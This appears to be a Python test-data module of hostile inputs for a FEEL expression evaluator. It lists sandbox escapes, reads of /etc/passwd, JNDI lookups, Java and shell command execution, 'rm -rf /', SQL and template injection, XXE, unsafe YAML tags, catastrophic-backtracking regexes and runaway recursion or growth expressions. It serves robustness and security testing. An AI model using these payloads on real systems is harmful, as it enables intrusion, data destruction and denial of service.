"""Texts written to break out or to exhaust, each meant for any place that takes an expression.

ESCAPES speak other languages (Python, JavaScript, Java, templates, shells, SQL, XML) or hide behind look-alike
characters; MONSTERS are made to choke whoever reads them; HUNGRY ones are FEEL and ask for more than any machine has.
"""

from __future__ import annotations

import itertools

PYTHON = """
__import__('os').system('id')
__import__("os").popen("id").read();
().__class__.__base__.__subclasses__()
''.__class__.__mro__[1].__subclasses__()
[].__class__.__init__.__globals__['os']
(lambda: (yield))()
(lambda f: f(f))(lambda f: f(f))
lambda: __import__('os')
lambda x: x
[x for x in ().__class__.__base__.__subclasses__()]
[c for c in [].__class__.__mro__]
{k: v for k, v in globals().items()}
(x for x in (1).__class__.__bases__)
eval(compile('1+1', '', 'eval'))
exec("import os\\nos.system('id')") and ;
open('/etc/passwd').read()
open("/etc/passwd", "r").read()[0:10]
f'{__import__("os").getcwd()}'
f"{7*7}"
'%s' % __builtins__
'{0.__class__}'.format(1)
b'raw'.decode()
r"\\d" r"\\w"
0x41
1_000_000
1j * 1j
10 ** 10 ** 10 ** 10 ** 10 %
1 if True else 2
x := 5
x = 5; y
a == b
a != b != c ==
*args
**kwargs
@decorator
while True: pass
for i in range(10): pass
print 'x'
x[1:2]
x[::2]
x['key']
x.y['__class__']
a & b
a | b
a ^ b
~a
a << 64 << 64
a >> 1 >>
a % b
True and False ==
\\x41
`id`
async def f(): pass
with open('x') as f: pass
class A: pass
def f(): return f()
type('X', (), {})()
getattr(x, '__class__')
breakpoint();
...
x if x else
__builtins__['eval']('1')
""".strip().splitlines()

OTHER = """
require('child_process').exec('id')
process.env['PATH']
(() => { while(1); })()
(function(){ return this })()
new Function('return 1')()
x => x * 2
x === y
x !== null
x ?? y
x?.y?.z
`${7*7}`
typeof x === 'undefined'
void 0 ;
let x = 1;
const x = () => x
x++ + ++x
x--
x += 1
x ? y : z
/regex/.test(x)
this.constructor.constructor('return process')()
Math['max'](1)
{"a": 1}["a"]["b"];
{{7*7}}
{{config.items()}}
{{''.__class__}}
{% for x in y %}{% endfor %}
{{ self._TemplateReference__context }}
${7*7}
${jndi:ldap://example.org/a}
#{7*7}
#{T(java.lang.Runtime).getRuntime().exec('id')}
*{7*7}
<%= 7*7 %>
<#assign x="freemarker.template.utility.Execute"?new()>
@(1+1)
@{7*7}
%{(#_='multipart')}
T(java.lang.Runtime).getRuntime().exec('id')
new java.lang.ProcessBuilder('id').start()
java.lang.Runtime.getRuntime().exec("id");
Runtime::getRuntime
System.exit(0);
function(x) external {java: {class: "java.lang.Runtime", method signature: "exec(java.lang.String)"}}
{f: function(x) external {pmml: {document: "http://example.org/x.pmml", model: "m"}}, r: f(1)}.r
for x in [1] return (function() external {java: {class: "C", method signature: "m()"}})()
$(id)
$((1+1))
; rm -rf /
| cat /etc/passwd
&& id
1; DROP TABLE cases; --
' OR '1'='1
" OR "1"="1" --
1 UNION SELECT password FROM users #
'; EXEC xp_cmdshell('id'); --
admin'--
1 AND SLEEP(10) #
<!DOCTYPE x [<!ENTITY a "b">]>
<script>alert(1)</script>
<?xml version="1.0"?>
<![CDATA[ x ]]>
&lt;x&gt;
<xi:include href="file:///etc/passwd"/>
!ruby/object:Gem::Installer
!!python/object/apply:os.system ["id"]
(def f (fn [x] x))
(eval '(+ 1 1))
foo:bar:baz
=cmd|'/C calc'!A0
+-*/
..
::
""".strip().splitlines()

HIDDEN = [
    "a \N{EN DASH} b", "a \N{MULTIPLICATION SIGN} b", "a \N{DIVISION SIGN} b", "a \N{LESS-THAN OR EQUAL TO} b",
    "a \N{NOT EQUAL TO} b", "a \N{LOGICAL AND} b", "\N{NOT SIGN}a", "\N{INFINITY}", "\N{SQUARE ROOT}16 \N{ELEMENT OF}",
    "a \N{FULLWIDTH EQUALS SIGN}\N{BROKEN BAR} b", "\N{LEFT DOUBLE QUOTATION MARK}Kayes\N{RIGHT DOUBLE QUOTATION MARK}",
    "\N{LEFT SINGLE QUOTATION MARK}x\N{RIGHT SINGLE QUOTATION MARK}", "\N{SINGLE LOW-9 QUOTATION MARK}x\N{PRIME}",
    "\N{LEFT-POINTING DOUBLE ANGLE QUOTATION MARK}Gao\N{RIGHT-POINTING DOUBLE ANGLE QUOTATION MARK} = x",
    "a\x00b", "\x1b[31m1", "\x07", "1\x7f", "\x08\x08", "a \N{PILCROW SIGN} b", "a \N{SECTION SIGN} 3",
    "x \N{EURO SIGN} 3 \N{DEGREE SIGN}", "1 \N{RIGHTWARDS ARROW} 2", "\N{COPYRIGHT SIGN} = 1",
    "a\ufffeb", "a\ue000\ue001b \N{CURRENCY SIGN}", "1 \N{IDENTICAL TO} 1", "\N{THEREFORE} true",
]  # fmt: skip
ESCAPES = [*PYTHON, *OTHER, *HIDDEN]
NAMES = [
    "import os", "from os import system", "not x", "del x", "yield 1", "await x", "raise SystemExit", "None is None",
    "assert False", "exit()", "os.environ", "x.__class__", "T(java.lang.Object)", "globals()", "eval(\"1\")",
    "open(\"x\")", "self.config", "process.env", "window.location", "constructor.constructor(\"x\")()",
]  # fmt: skip
"""FEEL, for names may hold blanks and functions may be unknown: nothing answers to them, whatever stands behind."""

MONSTERS = [
    "(" * 3000 + "1" + ")" * 3000, "[" * 6000, "[" * 2900 + "]" * 2900, "[1.." * 1500, "]1.." * 1400, "-" * 5000 + "1",
    "not(" * 1000 + "true" + ")" * 1000, "{a:" * 1000 + "1" + "}" * 1000, "{" * 6000, "a" + ".a" * 2900,
    "a" + "[1]" * 1900, "a" + "()" * 2900, "a(" * 2900, "if true then " * 400, "if " * 1900, "some x in " * 500,
    "every x in y satisfies " * 250, "for x in y return " * 300, "for x in " * 600, "function(x) " * 400 + "x",
    "(function() " * 450, "x instance of " + "list<" * 900 + "number" + ">" * 900,
    "x instance of " + "context<a:" * 500, "x instance of " + "function<" * 600, "x instance of " + "range<" * 900,
    "[x[x[x[x[x[" * 400, "a in (" * 900, "a in [" * 900, "a between " * 500, "1 and (" * 800, "1 or (" * 1100,
    "1 + (" * 1100, "2 ** (" * 900, "1 < (" * 1100, '"' + "\\" * 5999, '"' * 5999, "/*" * 2999, "/*" + "*" * 5900,
    "9" * 6000 + "e9", "9" * 3000 + "e9999", "1e999999999", "." * 5999, "@" * 6000, '@"' + "9" * 5000 + '"',
    '@"P' + "9" * 5000 + 'D"', '@"2026-01-01T00:00:00@' + "A/" * 2000 + '"', "a" * 6001, "a " * 3001, "é" * 6001,
    "1 " * 3000, "a," * 3000, "a:" * 3000, "=" * 5999, "<" * 5999, ">" * 5999, "!" * 5999, "*" * 5999,
    "{" + "a:1," * 1400, "{" + ",".join(f"a: {n}" for n in range(700)) + "}", "f(" + "a: 1, " * 800 + "1)",
    "\t" * 5999 + "§", "x" * 5999 + "'",
]  # fmt: skip
"""Refused while they are read."""

DOUBLED = ", ".join(f"x{n}: [x{n - 1}, x{n - 1}]" for n in range(1, 40))
NESTED = ", ".join(f"x{n}: {{a: x{n - 1}, b: x{n - 1}}}" for n in range(1, 40))
JOINED = ", ".join(f"x{n}: x{n - 1} + x{n - 1}" for n in range(1, 40))
POWERS = ", ".join(f"f{n}: function(x) f{n - 1}(f{n - 1}(x))" for n in range(1, 30))


def twice(use: str) -> str:
    """A use of x39, a list of 2 ** 40 items made of forty."""
    return f"{{x0: [1, 1], {DOUBLED}, y: {use}}}.y"


def grown(use: str) -> str:
    """A use of x39, a text of 40 * 2 ** 39 characters."""
    return f'{{x0: "{"a" * 40}", {JOINED}, y: {use}}}.y'


LOOPS = [
    "for i in 1..1000000000 return i", "for i in 1000000000..1 return i", "for i in [1..1000000000] return i",
    "for i in -1000000000..1000000000 return i", "for i in 1..100000, j in 1..100000 return i * j",
    "for i in 1..100000, j in i..100000 return i", "for i in 1..400 return for j in 1..400 return i",
    "for i in 1..60 return for j in 1..60 return for k in 1..60 return 1",
    "for a in 1..9, b in 1..9, c in 1..9, d in 1..9, e in 1..9, f in 1..9 return 1",
    'for i in @"0001-01-01"..@"9999-12-31" return i', 'for i in [@"0001-01-01"..@"9999-12-31"] return [i, i, i]',
    'for i in @"-99999-01-01"..@"99999-12-31" return day of week(i)', "for i in 0..100000 return partial",
    "for i in 0..5000 return [partial, partial]", "for i in 0..5000 return count(partial)",
    "for i in 1..100000 return sum(partial)", "for i in 1..100000 return partial[-1]",
    "for i in 0..5000 return string(partial)", "for i in 0..5000 return concatenate(partial, partial)",
    "some i in 1..1000000000 satisfies i < 0", "every i in 1..1000000000 satisfies i > 0",
    "some i in 1..1000, j in 1..1000 satisfies i + j < 0", "every i in 1..1000, j in 1..1000 satisfies i + j > 0",
    "every i in 1..1000 satisfies some j in 1..1000 satisfies j = i + 1000000 or j = 1000 or false",
    "some d in @\"0001-01-01\"..@\"9999-12-31\" satisfies d = null", "count(for i in 1..10000000 return i)",
    "sum(for i in 1..1000000000 return i)", "max(for i in 1..1000000000 return -i)",
    "(for i in 1..1000000000 return i)[1]", "(for i in 1..1000000000 return i)[item > 5]",
    "(for i in 1..3000 return i)[count((for j in 1..3000 return j)[item = j]) > 0]",
    "[1, 2, 3][count(for i in 1..1000000 return i) > 0]",
    "if (for i in 1..1000000000 return i) = [] then 1 else 2", "1 + count(for i in 1..1000000000 return i)",
    "[for i in 1..1000000000 return i]", "{a: for i in 1..1000000000 return i}",
    "string(for i in 1..1000000000 return i)", "(for i in 1..1000000000 return i) instance of list<number>",
    "(for i in 1..1000000000 return i) in ([1], [2])", "(for i in 1..1000000000 return i) between 1 and 2",
    "for i in 1..1000000000 return null", 'for i in 1..1000000000 return "x"', "for i in 1..100000 return {a: i, b: i}",
    "for i in 1..100000 return function(x) x", "for i in 1..100000 return [i, i, i]",
    "for i in 1..100000 return [1..i]", "for i in 1..100000 return if odd(i) then i else -i",
    "for i in 1..100000 return i between 1 and 2", "for i in 1..100000 return i in (1, 2, 3)",
    "for i in 1..100000 return i instance of number", "for i in 1..100000 return 1.1 ** (i / 7)",
    "for i in 1..100000 return i ** 99", "for i in 1..100000 return 1 / i", "for i in 1..100000 return -(-i)",
    "for i in 1..100000 return {a: {b: {c: i}}}.a.b.c", "for i in 1..100000 return [[[i]]][1][1][1]",
    'for i in 1..100000 return @"2020-01-01T00:00:00@Europe/Paris" + @"PT1H" * i',
    'for i in 1..100000 return @"2020-01-01" + @"P1M" * i', 'for i in 1..100000 return @"P1D" * i / 7',
    'for i in 1..100000 return @"2020-01-01T00:00:00Z" - @"2020-01-01T00:00:00@Africa/Bamako"',
    'for i in 1..100000 return @"10:00:00" < @"11:00:00@Asia/Tokyo"', 'for i in 1..100000 return @"P1Y" + @"P1M"',
    'for i in 1..100000 return string(i) + "x"', 'for i in 1..100000 return "a" < "b"',
]  # fmt: skip
RECURSION = [
    "{f: function(x) f(x), r: f(1)}.r", "{f: function(x) f(x + 1) + 1, r: f(1)}.r", "{f: function() f(), r: f()}.r",
    "{f: function(x) [f(x)], r: f(1)}.r", "{f: function(x) {a: f(x)}, r: f(1)}.r",
    "{f: function(x) f(x)[1], r: f(1)}.r", "{f: function(x) if f(x) then 1 else 2, r: f(1)}.r",
    "{f: function(x) -f(x), r: f(1)}.r", "{f: function(x) f(x) and true, r: f(1)}.r",
    "{f: function(x) f(x) = 1, r: f(1)}.r", "{f: function(x) f(x) between 1 and 2, r: f(1)}.r",
    "{f: function(x) 1 in (f(x)), r: f(1)}.r", "{f: function(x) f(f(x)), r: f(1)}.r",
    "{f: function(x) f(x: x), r: f(x: 1)}.r", "{f: function(x) string(f(x)), r: f(1)}.r",
    "{f: function(x) for i in [1] return f(i), r: f(1)}.r", "{f: function(x) some i in [1] satisfies f(i), r: f(1)}.r",
    "{f: function(x) [1][f(item)], r: f(1)}.r", "{f: function(x) f(x) instance of number, r: f(1)}.r",
    "{f: function(x) sort([2, 1], function(a, b) f(a)), r: f(1)}.r",
    "{f: function(x) list replace([1], function(a, b) f(a), 2), r: f(1)}.r",
    "{f: function(x: number) f(x), r: f(1)}.r", "{f: function(x: list<number>) f(x), r: f([1])}.r",
    "{g: function(h) h(h), r: g(g)}.r", "{g: function(h, n) h(h, n - 1) + h(h, n - 1), r: g(g, 30)}.r",
    "{g: function(h) [h(h)], r: g(g)}.r", "(function(f) f(f))(function(f) f(f))",
    "(function(f) f(f)[1])(function(f) [f(f)])", "{a: {f: function(x) f(x)}, r: a.f(1)}.r",
    "{f: function(n) if n < 2 then n else f(n - 1) + f(n - 2), r: f(30)}.r",
    "{f: function(n) if n = 0 then 1 else n * f(n - 1), r: f(5000)}.r",
    "{a: function(m, n) if m = 0 then n + 1 else if n = 0 then a(m - 1, 1) else a(m - 1, a(m, n - 1)), r: a(3, 9)}.r",
    "{h: function(n) if n = 0 then 0 else h(n - 1) + 1 + h(n - 1), r: h(25)}.r",
    f"{{f0: function(x) x + 1, {POWERS}, r: f29(1)}}.r",
]  # fmt: skip
GROWTH = [
    f"count(get entries({{x0: [1, 1], {DOUBLED}, y: string([x39])}}))", f"string({{x0: {{a: 1}}, {NESTED}}})",
    f'{{x0: "{"a" * 40}", {JOINED}}}.x39',
    *(
        twice(use)
        for use in (
            "string(x39)", "x38 = x39", "x38 != x39", "count(flatten(x39))", "x39.name", "x39 in [x38, x39]",
            "x39 instance of list<list<list<list<number>>>>", "distinct values([x39, x39])", "union(x39, x39)",
            "list contains([x39], x38)", "index of([x39, x38], x39)", "is(x39, x39)", "[x39] = [x39]", "x39 in (x39)",
            "concatenate(flatten(x38), flatten(x39))", "{a: x39} = {a: x39}", "context merge([{a: x39}]) = {a: x38}",
            'get value({a: flatten(x39)}, "a")', "sum(flatten(x39))", "append(x39, x39) = x39", "reverse(x39)",
            "(function(x: list<list<number>>) x)(x39)", "x39 between x38 and x39 or x39 = x38",
        )
    ),
    *(
        grown(use)
        for use in (
            "string length(x39)", "upper case(x39)", "contains(x39, x38)", 'replace(x39, "a", "bb")',
            'split(x39, "a")', 'matches(x39, "a+b")', "substring(x39, 2)", "x38 = x39", "{a: x39}", "[x39, x39]",
        )
    ),
    'string join(for i in 1..1000000 return "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
    "for i in 1..100000 return decimal(1 / 3, 6000)", "for i in 1..100000 return string(1e-6000)",
    "for i in 1..100000 return string(1e6000)",
]  # fmt: skip
PATTERNS = [
    f'matches("{"a" * 3000}", "(a+)+b")', f'matches("{"a" * 3000}", "(a|aa)+$b")',
    f'matches("{"a" * 3000}", "(a*)*\\\\1b")', f'matches("{"a" * 2000}", "(.*)(.*)(.*)(.*)(.*)(.*)x")',
    f'matches("{"a" * 60}", "^(a?){{60}}(a*)\\\\2\\\\2\\\\2b$")', f'matches("{"a" * 3000}", "(a|a)*b")',
    f'matches("{"a" * 3000}", "(a|b|ab)*bc")', f'matches("{"a" * 3000}", "^(([a-z])+.)+[A-Z]([a-z])+$")',
    f'matches("{"x" * 3000}", "x*x*x*x*y")', f'matches("{"ab" * 1400}", "(ab|a|b)*c")',
    f'matches("{"a" * 3000}", "(a{{0,50}}){{0,50}}b")', f'matches("{" " * 3000}", "\\\\s+\\\\s+$x")',
    f'split("{"ab" * 1500}", "(a*b*)*c")', f'split("{"a" * 3000}", "(a+)+b")', f'split("{"a" * 3000}", "(a|a)+b")',
    f'replace("{"a" * 3000}", "(a+)+b", "")', f'replace("{"x" * 2500}", "x", "{"y" * 2500}")',
    f'replace("{"x" * 2500}", "(x)", "{"$1" * 1200}")', f'replace("{"a" * 3000}", "(a|aa)+b", "x")',
    f'replace("{"é" * 2800}", "(\\\\p{{L}}+)+1", "x")', 'matches("a", "((((a{99}){99}){99}){99})")',
    f'matches("a", "{"(" * 900}a{")" * 900}")', f'matches("a", "{"a?" * 1500}")',
    f'matches("{"a" * 2000}", "{"a?" * 1000}{"a" * 1000}")', f'matches("a", "{"[a-z]" * 900}")',
    'matches("a", "(a{500}|b{500}){500}")', 'matches("a", "a{999999999}")',
]  # fmt: skip
CALLS = (
    """
string({a: i})|number(string(i))|substring("Bamako", 2, 3)|upper case("é")|lower case("É")|string length("x")
substring before("a-b", "-")|substring after("a-b", "-")|replace("abc", "b", "x")|contains("abc", "b")
starts with("abc", "a")|ends with("abc", "c")|matches("abc", "[a-c]+")|split("a;b", ";")|string join(["a", "b"], ",")
list contains([1, 2], i)|count([1, 2])|min(1, i)|max(1, i)|sum(1, i)|mean(1, i)|all(true, true)|any(true, false)
sublist([1, 2, 3], 2)|append([1], i)|concatenate([1], [i])|insert before([1], 1, i)|remove([1, 2], 1)
list replace([1, 2], 1, i)|reverse([1, 2])|index of([1, 2], i)|union([1], [i])|distinct values([1, i])
flatten([1, [i]])|product(1, i)|median(1, 2, i)|stddev(1, 2, i)|mode(1, 2, i)|sort([2, 1])
sort([2, 1, i], function(a, b) a < b)|list replace([1, 2], function(a, b) a = b, i)|decimal(i, 2)|floor(i)|ceiling(i)
round up(i, 2)|round down(i, 2)|round half up(i, 2)|round half down(i, 2)|abs(-i)|modulo(i, 7)|sqrt(i)|log(i)
exp(i / 1000)|odd(i)|even(i)|date("2026-03-31")|date(2026, 3, 31)|time("08:30:00")|time(8, 30, 0)
date and time("2020-01-01T00:00:00@Europe/Paris")|date and time("2020-01-01T00:00:00@Europe/Nowhere")
duration("P1DT2H")|years and months duration(@"2024-01-01", @"2026-01-01")|day of year(@"2026-03-31")
day of week(@"2026-03-31")|month of year(@"2026-03-31")|week of year(@"2026-03-31")|is(@"10:00:00@Europe/Paris", i)
before([1..2], [3..4])|after(i, [3..4])|meets([1..2], [2..3])|met by([2..3], [1..2])|overlaps([1..2], [2..3])
overlaps before([1..5], [3..8])|overlaps after([3..8], [1..5])|finishes(5, [1..5])|finished by([1..5], 5)
includes([1..10], i)|during(i, [1..10])|starts([1..3], [1..5])|started by([1..5], 1)|coincides([1..5], [1..5])
get value({a: i}, "a")|get entries({a: i})|context([{key: "a", value: i}])|context put({}, "a", i)
context put({a: {b: 1}}, ["a", "b"], i)|context merge([{a: i}])|range("[1..2]")|not(i = 1)
""".replace("\n", "|")
    .strip("|")
    .split("|")
)
HUNGRY = [*LOOPS, *RECURSION, *GROWTH, *PATTERNS, *(f"for i in 1..100000 return {call}" for call in CALLS)]
"""FEEL that never ends in any measure."""

ALL = [*ESCAPES, *MONSTERS, *HUNGRY]


def waiting(text: str) -> str:
    """A hungry text that does nothing until the answer `declencheur` is there: no check can know when that will be."""
    return f"if declencheur then {text} else null"


def dealt(texts: list[str], places: int) -> list[list[str]]:
    """The texts dealt out like cards to so many places, so that each place gets its share of every family."""
    return [list(itertools.islice(texts, place, None, places)) for place in range(places)]
